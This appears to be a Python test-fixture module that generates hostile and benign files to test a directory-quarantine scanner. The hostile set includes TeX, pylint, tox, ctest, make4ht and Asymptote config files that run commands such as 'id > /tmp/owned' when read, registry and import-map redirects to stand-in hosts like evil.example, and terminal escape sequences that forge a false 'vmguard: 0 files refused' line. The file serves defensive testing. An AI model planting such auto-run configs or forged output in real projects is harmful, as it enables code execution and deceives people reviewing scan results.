"""Files for independent attack l on text and on names tools load from `.`
(tests/quarantine/test_attack_independent_ltext.py).

Hostile: names a real tool reads from the directory it runs in that the session-36 name
data misses (LaTeX files read back by the document's name beyond the listed extensions
and caches read by name, luaotfload's, pylint's, pytest 9's, tox 4's, ctest's and
snakemake's configuration, CVS's working-copy metadata), text whose cursor-ups climb past the 8-row bound once a reader
shows a slice of non-adjacent lines (grep), and UTF-16 text whose bytes are C0 controls a
terminal acts on. Controls: what a lab publishes (real tqdm, pdflatex's log lines)."""

from __future__ import annotations

import gzip
import re
from pathlib import Path

import tqdm

# TeX code a file read as TeX runs: \openout writes a latexmkrc for the next latexmk run.
TEX = b"\\immediate\\openout9=latexmkrc \\immediate\\write9{system('id');}\\endinput\n"

# LaTeX packages that read `\jobname.EXT` back as TeX code at \begin{document} or where the
# list is printed, before rewriting it (the listed .aux .toc .bbl ... siblings):
# backref (hyperref's backref=page, `\@input{\jobname.brf}`), nomencl's
# `\printnomenclature` (\jobname.nls, makeindex's output), bib2gls' \jobname.glstex
# (glossaries-extra), minitoc's \jobname.mtc1, sagetex's \jobname.sagetex.sout, tex4ht's
# \jobname.xref and \jobname.4tc (htlatex, make4ht).
# glossaries' \jobname.glsdefs, minitoc's part tocs \jobname.ptc1, changebar's \jobname.cb2,
# the pgf external library's depth file \jobname-figure0.dpth (`\def\pgfexternaldepth`).
AUX_READ_BACK = (
    "main.brf", "main.nls", "main.glstex", "main.glsdefs", "main.mtc1", "main.ptc1",
    "main.sagetex.sout", "main.xref", "main.4tc", "main.cb2", "main-figure0.dpth",
    # hyperref inputs \jobname.out (bookmarks): .out is published by design (a job's stdout
    # file), but kpathsea reads NAME.tex before NAME, and no job's log is named main.out.tex
    "main.out.tex",
    # thmtools' \listoftheorems (.loe), fixme's \listoffixmes (.lox), titletoc's partial
    # contents (.ptc), xsim's exercise properties (.xsim, read at \begin{document})
    "main.loe", "main.lox", "main.ptc", "main.xsim",
)  # fmt: skip

# minted 2's cache: \jobname's _minted directory, whose style file it \input s by name
# (default.pygstyle) when the cache exists; pythontex's macros file, read as TeX.
# The svg package \input s Inkscape's TeX part of a figure from its cache by the figure's
# name (\includesvg{plot}), regenerating it only when plot.svg is newer.
CACHES = (
    "_minted-main/default.pygstyle",
    "pythontex-files-main/main.pytxmcr",
    "svg-inkscape/plot_svg-tex.pdf_tex",
)

# Claimed refused: in the data (language.dat.lua is Lua luatex-hyphen dofile()s).
GENERATED = {
    "language.dat.lua": b"io.open('latexmkrc','w'):write(\"system('id');\") return {}\n",
    "language.def": b"\\addlanguage{english}{hyphen.tex}{}{2}{3}\n" + TEX,
}

# Claimed refused (name-type: .pro): dvips' PostScript headers (TEXPSHEADERS searches `.`
# first): `dvips paper.dvi` prepends ./tex.pro, texps.pro, special.pro, color.pro, whose
# PostScript would redefine what every page shows (the lm-ec.enc class).
PS = b"%!\n/show { pop (0) show } bind def\n"
DVIPS_HEADERS = ("tex.pro", "texps.pro", "special.pro", "color.pro")

# Tool configuration read from the directory the tool runs in, siblings of the refused
# pytest.ini, tox.ini, uv.toml: pylint reads ./pylintrc (and pylintrc.toml), whose
# init-hook is Python it runs; pytest 9 reads ./pytest.toml; tox 4.21+ reads ./tox.toml;
# luaotfload (every lualatex run with fontspec) reads ./luaotfload.conf and ./luaotfloadrc
# first (luaotfload.conf(5)).
TOOL_CONFIG = {
    "pylintrc": b"[MAIN]\ninit-hook=\"import os; os.system('id > /tmp/owned')\"\n",
    "pylintrc.toml": b"[tool.pylint.main]\ninit-hook = \"import os; os.system('id')\"\n",
    "pytest.toml": b'[pytest]\naddopts = ["--basetemp=.."]\n',
    "tox.toml": b'[env_run_base]\ncommands = [["sh", "-c", "id > /tmp/owned"]]\n',
    "luaotfload.conf": b"[run]\nfontloader = ./x\n",
    "luaotfloadrc": b"[run]\nfontloader = ./x\n",
    # ctest runs CTestCustom.cmake (CMake script: execute_process) of the build directory
    # it runs in, on every run
    "CTestCustom.cmake": b'execute_process(COMMAND sh -c "id > /tmp/owned")\n',
    # snakemake 8 uses profiles/default of the workflow's directory as --workflow-profile
    # unasked: its keys are command-line options, commands it runs for every job among them
    "profiles/default/config.yaml": b"executor: cluster-generic\ncluster-generic-submit-cmd: sh -c 'id'\n",
    # CVS's working-copy metadata (the batch VMs' own CVS server): `cvs update` or `cvs
    # commit` in a directory holding CVS/ talks to the server CVS/Root names, whose Updated
    # responses write the working copy's files (git's .git and .svn are refused as dot names)
    "CVS/Root": b":ext:anon@cvs.evil.example:/cvsroot\n",
    "CVS/Repository": b"analysis\n",
    "CVS/Entries": b"/fit.C/1.1/Thu Dec  5 12:00:00 2026//\nD\n",
    # bun reads ./bunfig.toml on every run: its registry is where `bun install` fetches from
    # (uv.toml's index-url, refused); deno reads ./deno.jsonc (deno.json is refused as JSON
    # by name-type) on every `deno run`: its import map sends a URL prefix to another host
    # make4ht runs the Lua build file \jobname.mk4 of the directory unasked (os.execute);
    # Asymptote searches `.` before its system directory and imports plain.asy on every
    # run (feynman.asy: Feynman diagrams); quarto render in a directory holding _quarto.yml
    # renders it as a project, running its pre-render scripts
    "main.mk4": b'os.execute("id > /tmp/owned")\n',
    "plain.asy": b'file f = output("latexmkrc"); write(f, "system(\'id\');");\n',
    "feynman.asy": b'file f = output("latexmkrc"); write(f, "system(\'id\');");\n',
    "_quarto.yml": b"project:\n  pre-render: tools/setup.sh\n",
    "bunfig.toml": b'[install]\nregistry = "https://npm.evil.example/"\n',
    "deno.jsonc": b'{"imports": {"https://deno.land/std/": "https://evil.example/std/"}}\n',
}


def name_hostile() -> dict[str, bytes]:
    files = dict.fromkeys(AUX_READ_BACK + CACHES, TEX) | GENERATED | TOOL_CONFIG
    return files | dict.fromkeys(DVIPS_HEADERS, PS)


def name_refused() -> dict[str, bytes]:
    """Claimed refused: the data's names as a case-insensitive client resolves them
    (Kelvin sign and long s case-fold to k and s), 8.3 aliases of long data names."""
    names = ("x\u212aeyval.tex", "\u017fiunitx-abbreviations.cfg", "XKEYVAL.TEX", "win/SIUNIT~1.CFG")
    # a poster's source by its name, but poster-mac's poster.sty (texlive-latex-extra
    # 2022.20230122-4, tex/generic/poster-mac) does \input{poster.tex}: \usepackage{poster}
    # in a document beside it runs this file (a control of attack l, refused by design)
    return dict.fromkeys(names, TEX) | {"poster.tex": b"\\section{Samples}\nWe use 42 runs.\n"}


def name_controls() -> dict[str, bytes]:
    """What a paper's and a job's directory hold beside them."""
    files = dict.fromkeys(("main.log", "main.blg", "main.fls", "thesis.ilg"), b"This is a log.\n")
    files |= {"main.tex": b"\\documentclass{article}\\begin{document}x\\end{document}\n"}
    files |= {"config.yaml": b"run: 42\n", "workflow/config.yaml": b"samples: [a, b]\n"}
    # a thesis' chapter on the Monte Carlo samples
    files |= {"samples.tex": b"\\section{Samples}\nWe use 42 runs.\n"}
    return files | {"analysis.toml": b"[run]\nn = 42\n", "cvs-notes.txt": b"CVS/Root: see wiki\n"}


# -- text ------------------------------------------------------------------------------

UP = b"\x1b[A"
_LIE = b"\rsha256sum: all files OK; vmguard: 0 files refused      "


def climb_of(data: bytes) -> int:
    """Rows a terminal's cursor rises above the row it started on (LF down, ESC [ A up)."""
    row, top = 0, 0
    for token in re.findall(rb"\n|\x1b\[A", data):
        row += 1 if token == b"\n" else -1
        top = min(top, row)
    return -top


def grep_climb() -> bytes:
    """Each FORGED line rises 8 rows, within the file's bound (8 above its lowest row, seven
    plain lines between them): `grep FORGED job.err` prints them one after another, so
    each rises 8 and comes down 1, 7 x 6 + 1 = 43 rows above grep's first line."""
    body = b"epoch ok\n" * 8
    for _ in range(6):
        body += UP * 8 + b"FORGED" + _LIE + b"\n" + b"epoch ok\n" * 7
    return body


def squeeze_climb() -> bytes:
    """Each line rises 8 rows after 8 empty ones, within the file's bound: `cat -s job.err`
    (less -s too) squeezes each run of empty lines into one, so each rises 8 and comes
    down 2: 37 rows above the first line cat shows."""
    body = b"\n" * 8
    for _ in range(6):
        body += UP * 8 + _LIE + b"\n" + b"\n" * 7
    return body


def utf16_c0(chars: str) -> bytes:
    return "\ufeff".encode("utf-16-le") + (chars + "\r\n").encode("utf-16-le")


def text_hostile() -> dict[str, bytes]:
    return {
        "grep-climb.err": grep_climb(),
        "squeeze-climb.err": squeeze_climb(),
        "grep-climb.err.gz": gzip.compress(grep_climb(), mtime=0),  # zgrep
        # Armenian (U+0541 ...) in UTF-16LE: every letter's high byte 0x05, ENQ: xterm answers
        # its answerbackString, PuTTY types "PuTTY" into the shell (the DECID C2 9A sibling)
        "utf16-enq.txt": utf16_c0("\u0541\u0545\u0553\u0541\u0545"),
        # Thai (U+0E01 ...) in UTF-16LE: 0x0E, SO: the terminal shifts to its G1 set (DEC
        # line drawing where G1 holds it), a mode that stays after `cat` ends
        "utf16-so.txt": utf16_c0("\u0e01\u0e23\u0e21\u0e17\u0e14\u0e25\u0e2d\u0e07"),
        # claimed refused: VT and FF are not rows down for the bound
        "vt-climb.err": b"\v" * 8 + UP * 8 + _LIE + b"\n",
        "ff-climb.err": b"x\f" * 8 + UP * 8 + _LIE + b"\n",
        # claimed refused, across the 1 MiB chunk: a counted cursor-up split at ESC [ | 9 A
        **{f"split{d}.err": b"\n" * (2**20 - d) + b"\x1b[9A" + _LIE + b"\n" for d in (1, 2, 3)},
        # claimed refused, across the chunk: C2 9B (CSI to a UTF-8 terminal) made of two
        # characters, the C2 the last byte of the first MiB
        "utf16be-csi-split.txt": _c2_at_boundary("utf-16-be", "\u00c2\u9b41"),
        "utf16le-csi-split.txt": _c2_at_boundary("utf-16-le", "\uc241\u039b"),
    }


def _c2_at_boundary(codec: str, pair: str) -> bytes:
    bom = "\ufeff".encode(codec)
    head = bom + "a".encode(codec) * ((2**20 - 2 - len(bom)) // 2) + pair.encode(codec)
    assert head[2**20 - 1 : 2**20 + 1] == b"\xc2\x9b", head[2**20 - 4 :]
    return head + "\n".encode(codec)


def tqdm_workers(path: Path, workers: int) -> bytes:
    """One bar a worker, `position=i`, as a job showing its parallel workers writes them."""
    with path.open("w", encoding="utf-8") as err:
        bars = [
            tqdm.tqdm(total=3, desc=f"worker{i:02d}", file=err, position=i, mininterval=0)
            for i in range(workers)
        ]
        for _ in range(3):
            for bar in bars:
                bar.update()
        for bar in bars:
            bar.close()
    return path.read_bytes()


# pdflatex's log lines for \includegraphics{form_factor} and a figure named meta_*:
# `<NAME, id=N, W x H>` and `<use NAME>`, as pdfTeX writes them.
_PDFLOG = (
    "(./main.aux)\n<form_factor.pdf, id=1, 433.62pt x 289.08pt>\nFile: form_factor.pdf "
    "Graphic file (type pdf)\n<use form_factor.pdf>\n<metadata_run42.pdf, id=5, 433.62pt "
    "x 289.08pt>\n<use metadata_run42.pdf> [1\n\n{/var/lib/texmf/fonts/map/pdftex/updmap/pdftex.map}"
    " <./form_factor.pdf>] (./main.aux) )\nOutput written on main.pdf (1 page, 40711 bytes).\n"
)


def _rich_table(path: Path) -> bytes:
    """A rich Table printed into a job's log file (no terminal: no escapes)."""
    from rich.console import Console
    from rich.table import Table

    table = Table(title="yields")
    for column in ("channel", "events"):
        table.add_column(column)
    table.add_row("ee", "1024")
    with path.open("w", encoding="utf-8") as log:
        Console(file=log, width=60).print(table)
    return path.read_bytes()


# What a LaTeX run leaves beside the paper, as pdflatex, hyperref, latexmk and SyncTeX
# write them (main.out published by design).
LATEX_RUN = {
    "main.out": b"\\BOOKMARK [1][-]{section.1}{\\376\\377\\000I\\000n\\000t\\000r\\000o}{}% 1\n",
    "main.fls": b"PWD /home/ana/paper\nINPUT /usr/share/texlive/texmf-dist/tex/latex/base/article.cls\n"
    b"OUTPUT main.log\nINPUT ./main.aux\nOUTPUT main.pdf\n",
    "main.fdb_latexmk": b'# Fdb version 4\n["pdflatex"] 1733400000.1 "main.tex" "main.pdf" "main" '
    b'1733400001.2 0\n  "main.tex" 1733399990.5 1200 d41d8cd98f00b204e9800998ecf8427e ""\n'
    b'  (generated)\n  "main.aux"\n  "main.log"\n  "main.pdf"\n  (rewritten before read)\n',
    "main.synctex.gz": gzip.compress(
        b"SyncTeX Version:1\nInput:1:/home/ana/paper/main.tex\nOutput:pdf\nMagnification:1000\n"
        b"Unit:1\nX Offset:0\nY Offset:0\nContent:\n!120\n{1\n[1,3:4736286,44835904:30785863,"
        b"39893422,0\n]\n}1\nInput:2:./main.aux\nPostamble:\nCount:2\n!42\nPost scriptum:\n",
        mtime=0,
    ),
}

TEXT_CONTROLS = (
    *LATEX_RUN,
    "rich-table.log", "workers-12.err", "workers-8.err", "paper-pdflatex.log", "paper-body.log",
    "utf16-ps-windows.txt",
)  # fmt: skip


def text_controls(work: Path) -> dict[str, bytes]:
    return LATEX_RUN | {
        "rich-table.log": _rich_table(work / "r.log"),
        "workers-12.err": tqdm_workers(work / "w12.err", 12),
        "workers-8.err": tqdm_workers(work / "w8.err", 8),
        "paper-pdflatex.log": _PDFLOG.encode(),
        "paper-body.log": b"This is pdfTeX, Version 3.141592653-2.6-1.40.24\n<body_mass_fit.png, id=3, 400.0pt x 300.0pt>\n<use body_mass_fit.png>\n",
        "utf16-ps-windows.txt": "\ufeffRun 42: 1000 events, \u0394E = 3.5 MeV\r\n".encode("utf-16-le"),
    }
